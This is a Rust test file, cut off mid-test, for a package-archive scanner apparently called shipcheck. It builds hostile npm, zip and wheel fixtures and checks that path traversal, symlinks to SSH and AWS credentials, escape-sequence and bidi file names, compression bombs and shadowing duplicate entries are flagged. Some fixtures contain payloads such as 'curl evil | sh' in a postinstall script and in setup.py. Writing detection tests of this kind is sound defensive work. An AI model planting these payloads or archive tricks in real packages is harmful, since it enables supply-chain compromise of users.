//! The readers against generated fixtures: every format, every container anomaly, the limits.
//!
//! Each anomaly test asserts the kind, the entry it points at, whether the installer writes
//! that entry, and that the message names it (sanitised).

mod common;

use std::path::Path;

use common::{Tar, Zip, ZipRecord, flag, gzip, write};
use shipcheck::artifact::{
    AnomalyKind, Artifact, Entry, EntryKind, Format, Limits, Options, read_bytes, read_file,
};

fn read(path: &Path) -> Artifact {
    read_file(path, &Options::default(), None, None)
        .unwrap_or_else(|e| panic!("{} should read: {e:#}", path.display()))
}

fn read_with(path: &Path, limits: Limits) -> anyhow::Result<Artifact> {
    let opts = Options {
        limits,
        keep_contents: false,
    };
    read_file(path, &opts, None, None)
}

fn fixture(name: &str, bytes: &[u8]) -> (tempfile::TempDir, Artifact) {
    let dir = tempfile::tempdir().expect("temp dir");
    let path = write(dir.path(), name, bytes);
    let a = read(&path);
    (dir, a)
}

fn error_of(name: &str, bytes: &[u8], limits: Limits) -> String {
    let dir = tempfile::tempdir().expect("temp dir");
    let path = write(dir.path(), name, bytes);
    match read_with(&path, limits) {
        Ok(a) => panic!("{name} should be refused, got {} entries", a.entries.len()),
        Err(e) => format!("{e:#}"),
    }
}

fn entry<'a>(a: &'a Artifact, path: &str) -> &'a Entry {
    a.entries
        .iter()
        .rev()
        .find(|e| e.path == path)
        .unwrap_or_else(|| panic!("no entry {path:?} in {:?}", paths(a)))
}

fn paths(a: &Artifact) -> Vec<&str> {
    a.entries.iter().map(|e| e.path.as_str()).collect()
}

/// The anomalies of one kind, as (entry index, detail).
fn anomalies(a: &Artifact, kind: AnomalyKind) -> Vec<(Option<u32>, &str)> {
    a.anomalies
        .iter()
        .filter(|an| an.kind == kind)
        .map(|an| (an.entry, an.detail.as_str()))
        .collect()
}

/// Asserts exactly one anomaly of `kind`, at `e`, whose message mentions `needle`.
fn assert_one(a: &Artifact, kind: AnomalyKind, e: &Entry, needle: &str) {
    let found = anomalies(a, kind);
    assert_eq!(
        found.len(),
        1,
        "one {kind:?} anomaly expected, got {found:?} (all: {:?})",
        a.anomalies
    );
    assert_eq!(
        found[0].0,
        Some(e.index),
        "{kind:?} points at entry {} ({})",
        e.index,
        e.path
    );
    assert!(
        found[0].1.contains(needle),
        "{kind:?} message {:?} mentions {needle:?}",
        found[0].1
    );
    assert!(
        !found[0].1.bytes().any(|b| b == 0x1b || b == 0x07),
        "anomaly messages are sanitised: {:?}",
        found[0].1
    );
}

fn sha256_hex(bytes: &[u8]) -> String {
    use sha2::Digest as _;
    use std::fmt::Write as _;
    sha2::Sha256::digest(bytes)
        .iter()
        .fold(String::new(), |mut s, b| {
            let _ = write!(s, "{b:02x}");
            s
        })
}

// ---------------------------------------------------------------------------------------------
// Formats

#[test]
fn npm_tarball_strips_the_root_and_reads_package_json() {
    let bytes = common::npm_tgz_with(
        r#"{"name":"demo","version":"1.2.3","scripts":{"postinstall":"node x.js"},"dependencies":{"left-pad":"^1.3.0"}}"#,
        &[
            ("dist/index.js", b"module.exports = 1;\n"),
            ("README.md", b"# demo\n"),
        ],
    );
    let (_dir, a) = fixture("demo-1.2.3.tgz", &bytes);
    assert_eq!(a.format, Format::NpmTarball, "gzip'd tar with package.json");
    assert_eq!(
        a.root.as_deref(),
        Some("package"),
        "the root folder is noted"
    );
    assert_eq!(
        paths(&a),
        ["package.json", "dist/index.js", "README.md"],
        "paths as npm installs them, root stripped, in container order"
    );
    let js = entry(&a, "dist/index.js");
    assert_eq!(
        js.raw_path.as_deref(),
        Some("package/dist/index.js"),
        "raw name kept"
    );
    assert_eq!(js.kind, EntryKind::File);
    assert_eq!(js.mode, 0o644);
    assert_eq!(js.size, 20);
    assert_eq!(
        js.sha256.as_deref(),
        Some(sha256_hex(b"module.exports = 1;\n").as_str()),
        "entry digest is the sha256 of its content"
    );
    assert!(js.installed);
    let meta = a.package.as_ref().expect("package.json is read");
    assert_eq!(
        (meta.name.as_deref(), meta.version.as_deref()),
        (Some("demo"), Some("1.2.3"))
    );
    assert_eq!(meta.scripts["postinstall"], "node x.js");
    assert_eq!(meta.dependencies["dependencies"]["left-pad"], "^1.3.0");
    assert_eq!(a.title(), "demo@1.2.3");
    assert_eq!(
        a.packed_size,
        bytes.len() as u64,
        "packed size is the file size"
    );
    assert_eq!(a.digests.sha256, sha256_hex(&bytes), "artifact sha256");
    assert_eq!(a.digests.sha512.len(), 128, "sha512 hex");
    assert!(a.digests.integrity.starts_with("sha512-"), "npm integrity");
    assert_eq!(a.file_count(), 3);
    assert_eq!(
        a.unpacked_size,
        a.entries.iter().map(|e| e.size).sum::<u64>()
    );
    assert!(
        a.anomalies.is_empty(),
        "a clean tarball has no anomalies: {:?}",
        a.anomalies
    );
}

#[test]
fn any_single_root_is_stripped_as_npm_accepts() {
    let mut t = Tar::new();
    t.dir("node/")
        .file("node/package.json", br#"{"name":"x","version":"1.0.0"}"#)
        .file("node/lib/a.js", b"a");
    let (_dir, a) = fixture("x.tgz", &gzip(&t.finish()));
    assert_eq!(a.root.as_deref(), Some("node"));
    assert_eq!(
        paths(&a),
        ["package.json", "lib/a.js"],
        "root dir entry itself is not listed"
    );
    assert_eq!(a.format, Format::NpmTarball);
}

#[test]
fn plain_tar_and_generic_tar_gz() {
    let mut t = Tar::new();
    t.file("proj/a.txt", b"a").file("proj/b/c.txt", b"bc");
    let (_d1, tar) = fixture("proj.tar", &t.finish());
    assert_eq!(tar.format, Format::Tar, "uncompressed tar");
    assert_eq!(paths(&tar), ["a.txt", "b/c.txt"]);
    let (_d2, tgz) = fixture("proj.tar.gz", &gzip(&t.finish()));
    assert_eq!(
        tgz.format,
        Format::TarGz,
        "gzip'd tar without package metadata"
    );
    assert!(tgz.package.is_none());
    assert_eq!(
        tar.entries[1].sha256, tgz.entries[1].sha256,
        "same content, same digest, compressed or not"
    );
}

#[test]
fn crate_file() {
    let (_dir, a) = fixture("demo-0.1.0.crate", &common::crate_file("demo", "0.1.0"));
    assert_eq!(a.format, Format::Crate);
    assert_eq!(a.root.as_deref(), Some("demo-0.1.0"));
    assert_eq!(paths(&a), ["Cargo.toml", "Cargo.toml.orig", "src/lib.rs"]);
    let meta = a.package.as_ref().expect("Cargo.toml is read");
    assert_eq!(a.title(), "demo@0.1.0");
    assert_eq!(meta.dependencies["dependencies"]["serde"], "1");
}

#[test]
fn crate_is_recognised_by_content_not_name() {
    let (_dir, a) = fixture("renamed.tar.gz", &common::crate_file("demo", "0.1.0"));
    assert_eq!(
        a.format,
        Format::Crate,
        "Cargo.toml.orig marks a .crate whatever its name"
    );
}

#[test]
fn python_sdist() {
    let (_dir, a) = fixture("demo-1.0.tar.gz", &common::sdist("demo", "1.0"));
    assert_eq!(a.format, Format::PythonSdist);
    assert_eq!(paths(&a), ["PKG-INFO", "setup.py", "demo/__init__.py"]);
    assert_eq!(a.title(), "demo@1.0");
    let meta = a.package.as_ref().expect("PKG-INFO read");
    assert_eq!(meta.dependencies["Requires-Dist"]["requests"], "(>=2)");
}

#[test]
fn wheel() {
    let (_dir, a) = fixture("demo-1.0-py3-none-any.whl", &common::wheel("demo", "1.0"));
    assert_eq!(a.format, Format::Wheel);
    assert_eq!(a.root, None, "zip names are not stripped");
    assert_eq!(
        paths(&a),
        [
            "demo/__init__.py",
            "demo-1.0.dist-info/METADATA",
            "demo-1.0.dist-info/WHEEL",
            "demo-1.0.dist-info/RECORD"
        ]
    );
    assert_eq!(a.title(), "demo@1.0", "name from METADATA");
    let init = entry(&a, "demo/__init__.py");
    assert_eq!(
        init.sha256.as_deref(),
        Some(sha256_hex(b"VALUE = 1\n").as_str())
    );
    assert!(
        init.compressed_size.is_some(),
        "zip entries carry their compressed size"
    );
    assert!(a.anomalies.is_empty(), "{:?}", a.anomalies);
}

#[test]
fn jar_and_vsix() {
    let (_d1, jar) = fixture("demo.jar", &common::jar());
    assert_eq!(jar.format, Format::Jar);
    assert_eq!(jar.title(), "demo-lib@2.0.1", "from META-INF/MANIFEST.MF");
    let (_d2, vsix) = fixture("demo.vsix", &common::vsix());
    assert_eq!(vsix.format, Format::Vsix);
    assert_eq!(
        vsix.title(),
        "demo-ext@0.0.3",
        "from extension/package.json"
    );
    let (_d3, renamed) = fixture("demo.zip", &common::vsix());
    assert_eq!(
        renamed.format,
        Format::Vsix,
        "recognised by content, not by name"
    );
}

#[test]
fn zip_written_by_the_zip_crate() {
    let (_dir, a) = fixture("plain.zip", &common::plain_zip_by_crate());
    assert_eq!(a.format, Format::Zip);
    assert_eq!(paths(&a), ["docs", "docs/readme.txt", "bin/tool"]);
    assert_eq!(entry(&a, "docs").kind, EntryKind::Dir);
    assert_eq!(entry(&a, "bin/tool").mode & 0o777, 0o755, "unix mode kept");
    assert_eq!(entry(&a, "docs/readme.txt").size, 17);
    assert_eq!(a.file_count(), 2);
}

#[test]
fn magic_bytes_win_over_the_extension() {
    let tgz = common::npm_tgz("x", "1.0.0", &[]);
    let (_d1, a) = fixture("looks-like.zip", &tgz);
    assert_eq!(
        a.format,
        Format::NpmTarball,
        "a .zip name holding a tgz is a tgz"
    );
    let (_d2, b) = fixture("looks-like.tgz", &common::jar());
    assert_eq!(b.format, Format::Jar, "a .tgz name holding a zip is a zip");
}

#[test]
fn nested_archives_read_from_memory() {
    let tgz = common::npm_tgz("inner", "2.0.0", &[("a.js", b"1")]);
    let a = read_bytes("dist/inner.tgz", &tgz, &Options::default(), None).expect("reads");
    assert_eq!(a.title(), "inner@2.0.0");
    assert_eq!(a.digests.sha256, sha256_hex(&tgz));
    let zip = common::wheel("w", "3.0");
    let z = read_bytes("vendor/w.whl", &zip, &Options::default(), None).expect("reads");
    assert_eq!(z.format, Format::Wheel);
    let err =
        read_bytes("x.bin", b"just text", &Options::default(), None).expect_err("not an archive");
    assert!(
        format!("{err:#}").contains("x.bin"),
        "names the nested file: {err:#}"
    );
}

#[test]
fn content_is_read_again_on_demand_and_visitors_see_every_file() {
    let bytes = common::npm_tgz("x", "1.0.0", &[("a.txt", b"alpha"), ("b.txt", b"beta")]);
    let dir = tempfile::tempdir().expect("temp dir");
    let path = write(dir.path(), "x.tgz", &bytes);
    let mut seen = Vec::new();
    let visit = &mut |e: &Entry, data: &[u8]| seen.push((e.path.clone(), data.to_vec()));
    let a = read_file(&path, &Options::default(), Some(visit), None).expect("reads");
    assert_eq!(
        seen.iter().map(|(p, _)| p.as_str()).collect::<Vec<_>>(),
        ["package.json", "a.txt", "b.txt"],
        "the visitor sees every file once, in order"
    );
    let b = entry(&a, "b.txt");
    assert_eq!(&*a.content(b.index).expect("content"), b"beta");
    let zip_path = write(dir.path(), "w.whl", &common::wheel("w", "1.0"));
    let z = read(&zip_path);
    let init = entry(&z, "w/__init__.py");
    assert_eq!(
        &*z.content(init.index).expect("zip content"),
        b"VALUE = 1\n"
    );
}

// ---------------------------------------------------------------------------------------------
// Tar anomalies

fn npm_with(build: impl FnOnce(&mut Tar)) -> Vec<u8> {
    let mut t = Tar::new();
    t.file(
        "package/package.json",
        br#"{"name":"evil","version":"6.6.6"}"#,
    );
    build(&mut t);
    gzip(&t.finish())
}

#[test]
fn tar_path_traversal_is_recorded_and_not_installed() {
    let (_dir, a) = fixture(
        "t.tgz",
        &npm_with(|t| {
            t.file("package/../../etc/cron.d/x", b"* * * * * root sh");
        }),
    );
    let e = &a.entries[1];
    assert_eq!(e.raw_path.as_deref(), Some("package/../../etc/cron.d/x"));
    assert!(!e.installed, "node-tar refuses names with '..'");
    assert_one(
        &a,
        AnomalyKind::PathTraversal,
        e,
        "package/../../etc/cron.d/x",
    );
    assert_eq!(
        a.file_count(),
        1,
        "the traversal entry is not counted as installed"
    );
}

#[test]
fn tar_absolute_path_is_recorded() {
    let (_dir, a) = fixture(
        "t.tgz",
        &npm_with(|t| {
            t.file("/etc/passwd", b"root:x:0:0");
        }),
    );
    let e = &a.entries[1];
    assert_one(&a, AnomalyKind::AbsolutePath, e, "/etc/passwd");
    assert_one(
        &a,
        AnomalyKind::OutsideRoot,
        e,
        "outside the package root 'package/'",
    );
    assert_eq!(
        e.path, "etc/passwd",
        "node-tar strips the empty piece before the '/' as the root: the file lands inside the package"
    );
    assert!(e.installed);
}

#[test]
fn tar_symlink_and_hardlink_with_targets() {
    let (_dir, a) = fixture(
        "t.tgz",
        &npm_with(|t| {
            t.link("package/key", flag::SYMLINK, "/home/user/.ssh/id_rsa")
                .link("package/hard", flag::HARDLINK, "package/package.json");
        }),
    );
    let sym = entry(&a, "key");
    assert_eq!(sym.kind, EntryKind::Symlink);
    assert_eq!(sym.link_target.as_deref(), Some("/home/user/.ssh/id_rsa"));
    assert_one(
        &a,
        AnomalyKind::Symlink,
        sym,
        "symlink to /home/user/.ssh/id_rsa",
    );
    let hard = entry(&a, "hard");
    assert_eq!(hard.kind, EntryKind::Hardlink);
    assert_eq!(hard.link_target.as_deref(), Some("package/package.json"));
    assert_one(
        &a,
        AnomalyKind::Hardlink,
        hard,
        "hard link to package/package.json",
    );
    assert_eq!(hard.sha256, None, "links have no content digest");
}

#[test]
fn tar_devices_and_fifos_are_special_and_not_installed() {
    let (_dir, a) = fixture(
        "t.tgz",
        &npm_with(|t| {
            t.link("package/tty", flag::CHAR, "")
                .link("package/disk", flag::BLOCK, "")
                .link("package/pipe", flag::FIFO, "");
        }),
    );
    let special = anomalies(&a, AnomalyKind::SpecialFile);
    assert_eq!(
        special.len(),
        3,
        "one anomaly per special entry: {special:?}"
    );
    for (name, kind) in [
        ("tty", EntryKind::Device),
        ("disk", EntryKind::Device),
        ("pipe", EntryKind::Fifo),
    ] {
        let e = entry(&a, name);
        assert_eq!(e.kind, kind, "{name} kind");
        assert!(
            !e.installed,
            "{name}: installers do not create device or fifo nodes"
        );
        assert!(
            special
                .iter()
                .any(|(i, d)| *i == Some(e.index) && d.contains(name)),
            "{name} has its own special-file anomaly: {special:?}"
        );
    }
}

#[test]
fn tar_duplicates_keep_both_and_the_later_is_installed() {
    let (_dir, a) = fixture(
        "t.tgz",
        &npm_with(|t| {
            t.file("package/index.js", b"benign();\n")
                .file("package/other.js", b"x")
                .file("package/index.js", b"steal(process.env);\n");
        }),
    );
    let both: Vec<&Entry> = a.entries.iter().filter(|e| e.path == "index.js").collect();
    assert_eq!(both.len(), 2, "both duplicates are kept in the model");
    assert!(!both[0].installed, "the earlier duplicate is shadowed");
    assert!(
        both[1].installed,
        "the later duplicate is what gets installed"
    );
    assert_one(
        &a,
        AnomalyKind::DuplicatePath,
        both[1],
        "index.js appears again (entry 1)",
    );
    assert_eq!(
        a.file_count(),
        3,
        "package.json, other.js, and index.js once"
    );
    assert_eq!(
        a.unpacked_size,
        a.installed().map(|e| e.size).sum::<u64>(),
        "the unpacked size counts the installed copy only"
    );
    assert_eq!(
        a.installed().find(|e| e.path == "index.js").map(|e| e.size),
        Some(20),
        "the later content is the installed one"
    );
}

#[test]
fn tar_repeated_directories_are_not_duplicates() {
    let (_dir, a) = fixture(
        "t.tgz",
        &npm_with(|t| {
            t.dir("package/lib/")
                .dir("package/lib/")
                .file("package/lib/a.js", b"a");
        }),
    );
    assert!(
        anomalies(&a, AnomalyKind::DuplicatePath).is_empty(),
        "tar tools list directories more than once; that is not an anomaly: {:?}",
        a.anomalies
    );
}

#[test]
fn tar_entry_outside_the_root() {
    let (_dir, a) = fixture(
        "t.tgz",
        &npm_with(|t| {
            t.file("package/a.js", b"a").file("other/b.js", b"b");
        }),
    );
    let e = &a.entries[2];
    assert_eq!(e.raw_path.as_deref(), Some("other/b.js"));
    assert_one(
        &a,
        AnomalyKind::OutsideRoot,
        e,
        "other/b.js is outside the package root",
    );
}

#[test]
fn tar_names_with_escape_sequences_bidi_and_invalid_utf8() {
    let (_dir, a) = fixture(
        "t.tgz",
        &npm_with(|t| {
            t.file("package/\x1b[2J\x1b[1;1Hclear.js", b"1")
                .file("package/\x1b]52;c;Y3VybCBldmlsfHNo\x07clip.js", b"2")
                .file("package/invoice\u{202e}fdp.js", b"3")
                .file_bytes(b"package/bad\xff\xfe.js", b"4")
                .file("package/c1\u{9b}31m.js", b"5");
        }),
    );
    let csi = &a.entries[1];
    let osc = &a.entries[2];
    let bidi = &a.entries[3];
    let bad = &a.entries[4];
    let c1 = &a.entries[5];
    let control = anomalies(&a, AnomalyKind::ControlCharacters);
    assert_eq!(
        control.iter().map(|(i, _)| *i).collect::<Vec<_>>(),
        [Some(csi.index), Some(osc.index), Some(c1.index)],
        "ESC/CSI, OSC 52 and a C1 CSI are control characters: {control:?}"
    );
    assert!(
        control[0].1.contains("^[[2J"),
        "shown escaped: {}",
        control[0].1
    );
    assert!(
        control[1].1.contains("^[]52;c;"),
        "OSC 52 shown escaped: {}",
        control[1].1
    );
    assert!(
        control[2].1.contains("\\u{9b}"),
        "C1 shown escaped: {}",
        control[2].1
    );
    assert_one(
        &a,
        AnomalyKind::BidiCharacters,
        bidi,
        "invoice\\u{202e}fdp.js",
    );
    assert_one(&a, AnomalyKind::InvalidUtf8, bad, "bad\\xff\\xfe.js");
    assert_eq!(
        bad.path, "bad\\xff\\xfe.js",
        "invalid bytes stay visible in the path"
    );
    assert!(
        csi.installed && bidi.installed,
        "hostile names are still installed"
    );
}

#[test]
fn tar_declared_size_larger_than_the_data_is_refused_as_truncated() {
    let mut t = Tar::new();
    t.file("package/package.json", b"{}");
    t.raw(
        b"package/big.bin",
        flag::FILE,
        10 << 30,
        b"only a little data",
        b"",
    );
    // No end marker: the stream simply ends inside the entry.
    let err = error_of("trunc.tgz", &gzip(&t.bytes), Limits::default());
    assert!(
        err.contains("trunc.tgz")
            && err.contains("truncated: entry package/big.bin declares 10737418240 bytes"),
        "the error names the file, the entry and the lie: {err}"
    );
}

#[test]
fn tar_deep_paths_via_gnu_long_names_and_pax() {
    let deep = format!("package/{}f.js", "d/".repeat(500));
    let (_d1, a) = fixture(
        "deep.tgz",
        &npm_with(|t| {
            t.gnu_long_name(deep.as_bytes(), b"deep");
        }),
    );
    let e = &a.entries[1];
    assert_eq!(
        e.path.len(),
        deep.len() - "package/".len(),
        "the full long name is used"
    );
    assert_one(&a, AnomalyKind::TooDeep, e, "levels deep");
    let (_d2, b) = fixture(
        "pax.tgz",
        &npm_with(|t| {
            t.pax(&[("path", deep.as_bytes())], "package/short", b"deep");
        }),
    );
    assert_eq!(
        b.entries[1].path, e.path,
        "a pax path record overrides the header name"
    );
    assert_one(&b, AnomalyKind::TooDeep, &b.entries[1], "levels deep");
}

#[test]
fn tar_pax_size_record_is_honoured_like_node_tar() {
    // The header says 0 bytes, the pax record says 5: the data is 5 bytes.
    let mut t = Tar::new();
    t.file("package/package.json", b"{}");
    t.raw(b"PaxHeaders/x", flag::PAX, 10, b"10 size=5\n", b"");
    t.raw(b"package/a.txt", flag::FILE, 0, b"hello", b"");
    t.file("package/b.txt", b"b");
    let (_dir, a) = fixture("pax-size.tgz", &gzip(&t.finish()));
    assert_eq!(paths(&a), ["package.json", "a.txt", "b.txt"]);
    assert_eq!(
        entry(&a, "a.txt").size,
        5,
        "pax size wins over the header size"
    );
}

#[test]
fn tar_huge_pax_header_is_refused_before_it_is_buffered() {
    // A pax header declaring 64 MiB of records: the tar crate would buffer all of it.
    let mut t = Tar::new();
    t.file("package/package.json", b"{}");
    let mut records = Vec::new();
    while records.len() < 64 << 20 {
        records.extend_from_slice(b"30 comment=aaaaaaaaaaaaaaaaa\n");
    }
    t.raw(
        b"PaxHeaders/x",
        flag::PAX,
        records.len() as u64,
        &records,
        b"",
    );
    t.file("package/a.txt", b"a");
    let err = error_of("pax-bomb.tgz", &gzip(&t.finish()), Limits::default());
    assert!(
        err.contains(&format!(
            "pax extended header declares {} bytes",
            records.len()
        )),
        "an extension header past the metadata cap is refused with a clear error: {err}"
    );
}

#[test]
fn tar_huge_gnu_long_name_is_refused() {
    let mut t = Tar::new();
    t.file("package/package.json", b"{}");
    let name = vec![b'a'; 8 << 20];
    t.raw(
        b"././@LongLink",
        flag::GNU_LONGNAME,
        name.len() as u64,
        &name,
        b"",
    );
    t.file("package/a.txt", b"a");
    let err = error_of("longname-bomb.tgz", &gzip(&t.finish()), Limits::default());
    assert!(
        err.contains("GNU long name header declares 8388608 bytes"),
        "a long-name record past the cap is refused: {err}"
    );
}

#[test]
fn more_than_100000_entries_is_an_anomaly() {
    let mut t = Tar::new();
    t.bytes.reserve(100_002 * 512 + 1024);
    t.file("package/package.json", b"{}");
    for i in 0..100_001u32 {
        t.file(&format!("package/f/{i}"), b"");
    }
    let (_dir, a) = fixture("many.tgz", &gzip(&t.finish()));
    assert_eq!(a.entries.len(), 100_002);
    let found = anomalies(&a, AnomalyKind::TooManyEntries);
    assert_eq!(
        found,
        [(Some(100_000), "more than 100000 entries")],
        "recorded once, at the first entry past the limit"
    );
}

#[test]
fn past_the_hard_entry_limit_the_artifact_is_refused() {
    let mut t = Tar::new();
    for i in 0..60u32 {
        t.file(&format!("package/{i}"), b"");
    }
    let limits = Limits {
        hard_max_entries: 50,
        ..Limits::default()
    };
    let err = error_of("many.tgz", &gzip(&t.finish()), limits);
    assert!(err.contains("more than 50 entries; refusing"), "{err}");
}

#[test]
fn gzip_bomb_is_refused_past_the_unpacked_cap() {
    let dir = tempfile::tempdir().expect("temp dir");
    let path = common::zero_bomb(dir.path(), "bomb.tgz", 64 << 20);
    let packed = std::fs::metadata(&path).expect("stat").len();
    assert!(
        packed < 1 << 20,
        "the bomb is small when packed ({packed} bytes)"
    );
    let err = read_with(
        &path,
        Limits {
            max_unpacked: 8 << 20,
            ..Limits::default()
        },
    )
    .expect_err("past the cap");
    let msg = format!("{err:#}");
    assert!(
        msg.contains("bomb.tgz")
            && msg.contains("unpacks to more than 8388608 bytes (--max-unpacked-size)"),
        "{msg}"
    );
}

#[test]
fn gzip_bomb_under_the_cap_is_flagged_by_ratio() {
    let dir = tempfile::tempdir().expect("temp dir");
    let path = common::zero_bomb(dir.path(), "bomb.tgz", 20 << 20);
    let a = read(&path);
    let found = anomalies(&a, AnomalyKind::CompressionRatio);
    assert_eq!(found.len(), 1, "{:?}", a.anomalies);
    assert_eq!(found[0].0, None, "an artifact-level anomaly");
    assert!(
        found[0].1.contains("packed bytes inflate to"),
        "{}",
        found[0].1
    );
}

// ---------------------------------------------------------------------------------------------
// Zip anomalies

#[test]
fn zip_backslashes_drive_letters_traversal_and_absolute_names() {
    let bytes = Zip::new()
        .file("lib\\win\\x.dll", b"1")
        .file("C:\\Windows\\evil.dll", b"2")
        .file("../../.bashrc", b"3")
        .file("/etc/profile.d/x.sh", b"4")
        .file("D:relative.txt", b"5")
        .finish();
    let (_dir, a) = fixture("hostile.zip", &bytes);
    let [back, drive, up, abs, drive_rel] = &a.entries[..] else {
        panic!("five entries expected: {:?}", paths(&a))
    };
    assert_eq!(back.path, "lib/win/x.dll", "Windows tools split on '\\'");
    assert_eq!(drive.path, "Windows/evil.dll");
    let backslash = anomalies(&a, AnomalyKind::Backslash);
    assert_eq!(
        backslash.iter().map(|(i, _)| *i).collect::<Vec<_>>(),
        [Some(back.index), Some(drive.index)],
        "{backslash:?}"
    );
    assert!(backslash[0].1.contains("uses '\\' as a path separator"));
    let drives = anomalies(&a, AnomalyKind::DriveLetter);
    assert_eq!(
        drives.iter().map(|(i, _)| *i).collect::<Vec<_>>(),
        [Some(drive.index), Some(drive_rel.index)],
        "{drives:?}"
    );
    assert_one(
        &a,
        AnomalyKind::PathTraversal,
        up,
        "../../.bashrc climbs out",
    );
    assert!(!up.installed, "a '..' name is not installed");
    let absolute = anomalies(&a, AnomalyKind::AbsolutePath);
    assert_eq!(
        absolute.iter().map(|(i, _)| *i).collect::<Vec<_>>(),
        [Some(drive.index), Some(abs.index)],
        "{absolute:?}"
    );
    assert_eq!(abs.path, "etc/profile.d/x.sh");
}

#[test]
fn zip_unix_symlink_is_a_link_with_its_target() {
    let bytes = Zip::new()
        .file("pkg/a.py", b"a")
        .symlink("pkg/creds", "../../../../home/u/.aws/credentials")
        .finish();
    let (_dir, a) = fixture("link.whl", &bytes);
    let link = entry(&a, "pkg/creds");
    assert_eq!(link.kind, EntryKind::Symlink);
    assert_eq!(
        link.link_target.as_deref(),
        Some("../../../../home/u/.aws/credentials"),
        "the target is the entry's content, never followed"
    );
    assert_one(
        &a,
        AnomalyKind::Symlink,
        link,
        "symlink to ../../../../home/u/.aws/credentials",
    );
}

#[test]
fn zip_declared_size_larger_than_the_data_is_a_size_mismatch() {
    let mut lying = ZipRecord::file("data.bin", &[7u8; 1000]);
    lying.declared_size = Some(5000);
    let bytes = Zip::new().file("ok.txt", b"ok").record(lying).finish();
    let (_dir, a) = fixture("lie.zip", &bytes);
    let e = entry(&a, "data.bin");
    assert_eq!(e.size, 1000, "the size is what was actually read");
    assert_eq!(
        e.declared_size,
        Some(5000),
        "the declared size is kept beside it"
    );
    assert_one(
        &a,
        AnomalyKind::SizeMismatch,
        e,
        "data.bin declares 5000 bytes but holds 1000",
    );
}

#[test]
fn zip_declared_size_smaller_than_the_data_is_refused() {
    let mut lying = ZipRecord::file("data.bin", &[7u8; 1000]);
    lying.declared_size = Some(10);
    lying.deflate = false;
    let bytes = Zip::new().file("ok.txt", b"ok").record(lying).finish();
    let err = error_of("lie.zip", &bytes, Limits::default());
    assert!(
        err.contains("lie.zip: corrupt zip: File is larger than its declared uncompressed size"),
        "a header that under-declares is a broken archive, not a half-read one: {err}"
    );
}

#[test]
fn zip_duplicate_names_keep_both_and_the_later_is_installed() {
    let bytes = Zip::new()
        .file("setup.py", b"print('benign')\n")
        .file("other.py", b"x")
        .file("setup.py", b"import os; os.system('curl evil | sh')\n")
        .finish();
    let (_dir, a) = fixture("dup.zip", &bytes);
    assert_eq!(
        paths(&a),
        ["setup.py", "other.py", "setup.py"],
        "every central-directory record is an entry, in order"
    );
    let (first, later) = (&a.entries[0], &a.entries[2]);
    assert!(!first.installed, "the earlier duplicate is shadowed");
    assert!(
        later.installed,
        "the later duplicate is what gets installed"
    );
    assert_eq!(
        first.sha256.as_deref(),
        Some(sha256_hex(b"print('benign')\n").as_str()),
        "the earlier duplicate's own content is read, not the later one's"
    );
    assert_eq!(
        later.sha256.as_deref(),
        Some(sha256_hex(b"import os; os.system('curl evil | sh')\n").as_str())
    );
    assert_one(
        &a,
        AnomalyKind::DuplicatePath,
        later,
        "setup.py appears again (entry 0)",
    );
    assert_eq!(
        &*a.content(first.index).expect("earlier content"),
        b"print('benign')\n"
    );
    assert_eq!(a.file_count(), 2);
}

#[test]
fn zip_entry_ratio_bomb_is_flagged() {
    let bytes = Zip::new().file("zeros.bin", &vec![0u8; 4 << 20]).finish();
    let dir = tempfile::tempdir().expect("temp dir");
    let path = write(dir.path(), "z.zip", &bytes);
    let a = read_with(
        &path,
        Limits {
            ratio_min_bytes: 1 << 20,
            ..Limits::default()
        },
    )
    .expect("reads");
    let e = entry(&a, "zeros.bin");
    assert_one(&a, AnomalyKind::CompressionRatio, e, "zeros.bin inflates");
    let err = read_with(
        &path,
        Limits {
            max_unpacked: 1 << 20,
            ..Limits::default()
        },
    )
    .expect_err("past the cap");
    assert!(
        format!("{err:#}").contains("unpacks to more than 1048576 bytes"),
        "{err:#}"
    );
}

#[test]
fn zip_names_with_control_and_bidi_characters() {
    let bytes = Zip::new()
        .file("\x1b]0;pwned\x07title.txt", b"1")
        .file("read\u{2066}me\u{2069}.txt", b"2")
        .finish();
    let (_dir, a) = fixture("names.zip", &bytes);
    assert_one(
        &a,
        AnomalyKind::ControlCharacters,
        &a.entries[0],
        "^[]0;pwned^G",
    );
    assert_one(&a, AnomalyKind::BidiCharacters, &a.entries[1], "\\u{2066}");
}

// ---------------------------------------------------------------------------------------------
// Broken input

#[test]
fn broken_inputs_are_clear_errors() {
    let tgz = common::npm_tgz("x", "1.0.0", &[("a.js", &[b'a'; 5000])]);
    let mut corrupt_deflate = tgz.clone();
    for b in &mut corrupt_deflate[12..40] {
        *b ^= 0x5a;
    }
    let zip = common::wheel("w", "1.0");
    let mut broken_cd = zip.clone();
    let cd = broken_cd
        .windows(4)
        .position(|w| w == b"PK\x01\x02")
        .expect("a central directory");
    broken_cd[cd + 2] = b'X';
    let cases: [(&str, Vec<u8>, &str); 6] = [
        ("trunc.tgz", tgz[..tgz.len() / 2].to_vec(), "corrupt gzip"),
        ("deflate.tgz", corrupt_deflate, "corrupt gzip"),
        (
            "notes.tgz",
            b"hello, I am text\n".to_vec(),
            "not a package archive",
        ),
        ("empty.tgz", Vec::new(), "empty file"),
        (
            "random.bin",
            (0..4096u32)
                .map(|i| (i.wrapping_mul(2_654_435_761) >> 13) as u8)
                .collect(),
            "not a package archive",
        ),
        ("cd.zip", broken_cd, "corrupt zip"),
    ];
    for (name, bytes, want) in cases {
        let err = error_of(name, &bytes, Limits::default());
        assert!(
            err.contains(name) && err.contains(want),
            "{name}: error names the file and says {want:?}: {err}"
        );
        assert!(
            !err.contains("panicked"),
            "{name}: no reader thread panicked: {err}"
        );
    }
}

// ---------------------------------------------------------------------------------------------
// Installer semantics that change what a reviewer must see

#[test]
fn duplicate_package_json_metadata_comes_from_the_installed_copy() {
    let mut t = Tar::new();
    t.file(
        "package/package.json",
        br#"{"name":"demo","version":"1.0.0"}"#,
    )
    .file("package/index.js", b"1")
    .file(
        "package/package.json",
        br#"{"name":"demo","version":"1.0.0","scripts":{"postinstall":"curl evil | sh"}}"#,
    );
    let (_dir, a) = fixture("dup-meta.tgz", &gzip(&t.finish()));
    let meta = a.package.as_ref().expect("metadata");
    assert_eq!(
        meta.scripts.get("postinstall").map(String::as_str),
        Some("curl evil | sh"),
        "npm installs the later package.json, so its scripts are the ones to review: {meta:?}"
    );
}

#[test]
fn npm_skips_links_so_they_are_not_installed_and_shadow_nothing() {
    let (_dir, a) = fixture(
        "links.tgz",
        &npm_with(|t| {
